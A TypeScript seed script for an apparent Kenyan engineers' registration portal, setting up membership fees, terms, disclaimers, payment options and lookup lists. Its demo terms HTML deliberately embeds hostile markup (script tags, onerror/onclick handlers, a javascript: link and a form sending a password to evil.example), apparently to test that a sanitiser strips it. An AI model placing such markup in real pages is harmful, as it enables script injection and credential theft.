// Seeds the setup area: membership categories with charges (first: other seeders read them), the settings
// record, company, terms, disclaimers, payment options and every setup lookup. The same in every scenario.
import type { SeedContext } from '../context';
import { kenya } from '../kenya';
import { SEEDED_COMPANY, SEEDED_SETTINGS } from './site-record';

/** Application charges in KES (ours to choose: spec §B). */
const CHARGES: Record<string, { application: number; subscription: number; license: number; upgrade: number }> = {
  GRADUATE: { application: 2_320, subscription: 3_480, license: 0, upgrade: 0 },
  TECHNOLOGIST: { application: 3_480, subscription: 4_640, license: 0, upgrade: 0 },
  TECHNICIAN: { application: 2_900, subscription: 3_480, license: 0, upgrade: 0 },
  PE: { application: 11_600, subscription: 11_600, license: 17_400, upgrade: 11_000 },
  CE: { application: 23_200, subscription: 23_200, license: 34_800, upgrade: 100_000 },
  AC: { application: 11_600, subscription: 11_600, license: 17_400, upgrade: 11_000 },
  CORPORATE: { application: 58_000, subscription: 46_400, license: 69_600, upgrade: 0 },
};

/**
 * Realistic terms, with the hostile bits a real CMS export may carry (a script, an event handler, inline style,
 * a form, a javascript: link): the portal must show the text and drop all of those (DOMPurify allow-list).
 */
const DEMO_TERMS_HTML = [
  '<h2>Terms and conditions of registration</h2>',
  '<p>By registering you confirm that the information you give is <strong>true and complete</strong>, and that you will keep it up to date.</p>',
  '<ol><li>Membership is granted by the Board after review of your application and referees.</li>',
  '<li>Fees paid are not refundable once the application has been reviewed.</li>',
  '<li>Members abide by the Code of Conduct and undertake continuing professional development (CPD).</li></ol>',
  '<p style="color:red" onclick="alert(1)">Your data is processed under the Data Protection Act, 2019.</p>',
  '<script>alert("terms")</script><img src="x" onerror="alert(1)">',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<p>Read the full <a href="https://ebk.example/code-of-conduct">Code of Conduct</a> and the <a href="javascript:alert(1)">privacy notice</a>.</p>',
].join('');

const LOOKUPS: Record<string, Array<[string, string]>> = {
  'qualification-codes': [
    ['DIP', 'Diploma'],
    ['BSC', 'Bachelor of Science'],
    ['BENG', 'Bachelor of Engineering'],
    ['MSC', 'Master of Science'],
    ['PHD', 'Doctor of Philosophy'],
  ],
  'certification-code': [
    ['KCSE', 'Kenya Certificate of Secondary Education'],
    ['IGCSE', 'International GCSE'],
    ['DEG', 'University degree'],
    ['PROF', 'Professional certificate'],
  ],
  'industry-group': [
    ['CONS', 'Consulting'],
    ['CONT', 'Contracting'],
    ['GOVT', 'Government'],
    ['MANU', 'Manufacturing'],
    ['ACAD', 'Academia'],
    ['ENER', 'Energy'],
  ],
  'postal-codes': [
    ['00100', 'Nairobi GPO'],
    ['80100', 'Mombasa'],
    ['40100', 'Kisumu'],
    ['20100', 'Nakuru'],
    ['30100', 'Eldoret'],
    ['10100', 'Nyeri'],
  ],
  'certification-class': [
    ['A', 'First Class Honours'],
    ['B', 'Second Class Honours (Upper)'],
    ['C', 'Second Class Honours (Lower)'],
    ['D', 'Pass'],
  ],
  attachmentTypes: [
    ['ID', 'National ID or passport'],
    ['DEGREE', 'Degree certificate'],
    ['TRANSCRIPT', 'Academic transcript'],
    ['KCSE', 'KCSE certificate'],
    ['CV', 'Curriculum vitae'],
    ['KRA', 'KRA PIN certificate'],
    ['CR12', 'CR12 (firms)'],
  ],
  'referee-types': [
    ['PROPOSER', 'Proposer'],
    ['SECONDER', 'Seconder'],
    ['REFEREE', 'Referee'],
  ],
  divisions: [
    ['CIV', 'Civil'],
    ['MEC', 'Mechanical'],
    ['ELE', 'Electrical'],
    ['AGR', 'Agricultural'],
    ['CHE', 'Chemical'],
  ],
};

export async function seedSetup(ctx: SeedContext): Promise<void> {
  const { db } = ctx;
  for (const c of kenya.membershipCategories) {
    const amounts = CHARGES[c.Code] ?? { application: 5_800, subscription: 5_800, license: 0, upgrade: 0 };
    const charge = (type: string, amount: number) => ({
      Charge_Type: type,
      Charge_Item: type,
      Currency_Code: 'KES',
      Amount_Including_VAT: amount,
    });
    await db.categories.create({
      ...c,
      charges: [
        charge('APPLICATION', amounts.application),
        charge('SUBSCRIPTION', amounts.subscription),
        ...(amounts.license > 0 ? [charge('LICENSE', amounts.license)] : []),
        ...(amounts.upgrade > 0 ? [charge('UPGRADE', amounts.upgrade)] : []),
      ],
    });
  }

  await db.settings.create(SEEDED_SETTINGS);
  await db.company.create({ ...SEEDED_COMPANY, termsAndConditions: DEMO_TERMS_HTML });
  await db.disclaimers.create({
    disclaimerType: 'Application',
    description:
      '<p>I declare that the information in this application is true. I understand that a false statement is grounds for refusal or removal from the register.</p>',
  });
  await db.disclaimers.create({
    disclaimerType: 'Activation',
    description:
      "<p>Activate only your own membership record. Using another member's record is an offence under the Engineers Act, 2011.</p>",
  });
  for (const [i, o] of [
    ['Card (Visa, Mastercard)', 'CARD', 'CARD-01', 101, false],
    ['M-Pesa', 'MPESA', 'MPESA-PAYBILL-174379', 102, true],
    ['Bank transfer', 'BANK', 'KCB-1100223344', 103, true],
  ].entries()) {
    const [description, code, ref, checkoutCode, isConfirmPayment] = o as [string, string, string, number, boolean];
    await db.paymentOptions.create({ id: i + 1, description, code, ref, checkoutCode, priority: i + 1, isConfirmPayment });
  }

  for (const c of kenya.countries) await db.countries.create(c);
  for (const county of kenya.counties) {
    await db.counties.create({ countryCode: 'KE', CountyNo: county.CountyNo, countyName: county.countyName });
    for (const [i, town] of county.towns.entries()) {
      await db.cities.create({ County: county.countyName, City: town, Code: `${county.CountyNo}-${String(i + 1).padStart(2, '0')}` });
    }
  }
  const lists: Record<string, Array<[string, string]>> = {
    ...LOOKUPS,
    discipline: kenya.disciplines.map((d, i) => [`D${String(i + 1).padStart(2, '0')}`, d]),
    'specialization-types': kenya.disciplines.map((d, i) => [`SP${String(i + 1).padStart(2, '0')}`, d]),
    title: kenya.titles.map((t) => [t.replace(/\.$/, '').toUpperCase(), t]),
    universities: kenya.universities.map((u, i) => [`U${String(i + 1).padStart(3, '0')}`, u]),
    // EBK-accredited programmes: an engineering degree at each of the first universities.
    'accredited-programmes': kenya.universities
      .slice(0, 8)
      .flatMap((u, i) =>
        ['Civil', 'Electrical', 'Mechanical'].map((d, j): [string, string] => [
          `EBK${String(i * 3 + j + 1).padStart(3, '0')}`,
          `BSc ${d} Engineering, ${u}`,
        ]),
      ),
  };
  for (const [list, rows] of Object.entries(lists)) {
    for (const [order, [Code, Description]] of rows.entries()) await db.lookups.create({ list, Code, Description, order });
  }
}
